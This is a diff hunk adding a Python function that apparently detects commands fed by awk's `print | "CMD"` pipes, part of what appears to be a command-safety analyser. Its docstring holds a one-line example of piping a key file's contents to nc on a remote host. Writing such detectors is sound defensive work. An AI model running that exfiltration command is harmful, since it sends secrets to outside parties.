@@ -283,6 +283,14 @@ _AWK_UNKNOWN = "$(awk-value)"
 _AWK_SHELL = lazyre.compile(r"\s*(?:/bin/|/usr/bin/)?(?:ba|z|da|k)?sh\s*")
 
 
+def awk_fed_commands(program: str) -> list[str]:
+    """The commands `print … | "CMD"` feeds what awk prints (not a shell: awk_commands runs those lines):
+    `awk '{print | "nc h 80"}' KEY` sends KEY's lines to nc."""
+    prog = program[:sedlib.MAX_SCRIPT]
+    return [m.group(2) for m in _AWK_PIPE_COMMAND.finditer(prog)
+            if m.group(2) and not _AWK_SHELL.fullmatch(m.group(2))][:8]
+
+
 def awk_commands(program: str, field_sep: str | None, data: str | None) -> tuple[str | None, str | None]:
     """(commands, template) that an awk program runs: `system(EXPR)` and `print EXPR | "sh"`, with
     EXPR read like a print's (string literals, fields, concatenation); and the literal commands of
